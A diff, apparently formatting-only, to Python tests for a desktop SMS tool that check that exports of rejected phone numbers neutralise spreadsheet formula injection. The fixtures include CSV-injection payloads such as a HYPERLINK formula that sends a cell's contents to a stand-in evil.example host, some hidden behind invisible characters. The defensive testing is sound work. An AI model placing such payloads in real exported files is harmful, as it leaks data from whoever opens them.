@@ -23,7 +23,7 @@ from kwtsms_desktop.importing.export import guard_formula
 from kwtsms_desktop.importing.xlsx_writer import column_letter, write_xlsx
 
 REJECTED = [
-    Rejected(3, "=HYPERLINK(\"http://x\")", "This is not a phone number: no digits found."),
+    Rejected(3, '=HYPERLINK("http://x")', "This is not a phone number: no digits found."),
     Rejected(5, "+96512", "This number is too short."),
     Rejected(7, "@SUM(A1)", "رقم غير صالح"),
     Rejected(9, "-5", "Too short."),
@@ -40,7 +40,7 @@ def test_csv_has_bom_crlf_arabic_and_every_formula_start_guarded(tmp_path):
     with open(path, encoding="utf-8-sig", newline="") as stream:
         rows = list(csv.reader(stream))
     assert rows[0] == ["Row in file", "Phone as written", "Problem"]
-    assert [row[1] for row in rows[1:]] == ["'=HYPERLINK(\"http://x\")", "'+96512", "'@SUM(A1)", "'-5", "'\tTAB"]
+    assert [row[1] for row in rows[1:]] == ['\'=HYPERLINK("http://x")', "'+96512", "'@SUM(A1)", "'-5", "'\tTAB"]
     assert rows[3][2] == "رقم غير صالح"
     assert [row[0] for row in rows[1:]] == ["3", "5", "7", "9", "11"]
 
@@ -52,7 +52,21 @@ def test_guard_formula_prefixes_dangerous_starts(text):
 
 @pytest.mark.parametrize(
     "hidden",
-    ["\x00", " ", "   ", "\xa0", "\u200b", "\ufeff", "\u200e", "\u200f", "\u2066", "\u200d", "\t", "\r\n", "\x00 \ufeff\u200b\xa0"],
+    [
+        "\x00",
+        " ",
+        "   ",
+        "\xa0",
+        "\u200b",
+        "\ufeff",
+        "\u200e",
+        "\u200f",
+        "\u2066",
+        "\u200d",
+        "\t",
+        "\r\n",
+        "\x00 \ufeff\u200b\xa0",
+    ],
 )
 def test_invisible_characters_before_a_formula_are_removed_and_the_formula_guarded(hidden):
     assert guard_formula(hidden + '=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
@@ -84,14 +98,25 @@ def test_csv_and_xlsx_exports_never_hold_a_live_formula_behind_a_nul(tmp_path):
     assert cells == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=1+1", "'+96598765432"]
     export_rejected(rejected, xlsx_path)
     sheet = openpyxl.load_workbook(xlsx_path).active
-    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+96598765432"]
+    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "=1+1",
+        "+96598765432",
+    ]
     for row in (2, 3, 4):
         assert sheet.cell(row, 2).data_type == "s" and sheet.cell(row, 2).quotePrefix  # text, marked as such
     assert not sheet.cell(2, 3).quotePrefix
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.text(alphabet=st.sampled_from(["\x00", " ", "\xa0", "\u200b", "\ufeff", "\u200e", "\t", "\r", "=", "+", "-", "@", "a", "1", "＝"]), max_size=8))
+@given(
+    st.text(
+        alphabet=st.sampled_from(
+            ["\x00", " ", "\xa0", "\u200b", "\ufeff", "\u200e", "\t", "\r", "=", "+", "-", "@", "a", "1", "＝"]
+        ),
+        max_size=8,
+    )
+)
 def test_no_guarded_cell_starts_a_formula_whatever_hides_in_front(text):
     guarded = guard_formula(text)
     if guarded.startswith("'"):
@@ -108,7 +133,7 @@ def test_xlsx_export_reads_back_with_openpyxl_and_calamine(tmp_path):
     assert sheet.title == "Rejected rows"
     values = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert values[0] == ["Row in file", "Phone as written", "Problem"]
-    assert values[1] == [3, "=HYPERLINK(\"http://x\")", "This is not a phone number: no digits found."]
+    assert values[1] == [3, '=HYPERLINK("http://x")', "This is not a phone number: no digits found."]
     assert sheet["B2"].data_type == "s"  # text, never a live formula
     assert sheet.freeze_panes == "A2"
     assert sheet["A1"].font.b
@@ -146,7 +171,12 @@ def test_xlsx_writer_types_escaping_and_many_columns(tmp_path):
     table = read_table(path)
     assert table.rows[0][1] == "96598765432"
     assert table.rows[0][2] == "42"
-    assert column_letter(0) == "A" and column_letter(25) == "Z" and column_letter(26) == "AA" and column_letter(701) == "ZZ"
+    assert (
+        column_letter(0) == "A"
+        and column_letter(25) == "Z"
+        and column_letter(26) == "AA"
+        and column_letter(701) == "ZZ"
+    )
 
 
 def test_xlsx_writer_streams_a_large_export(tmp_path):
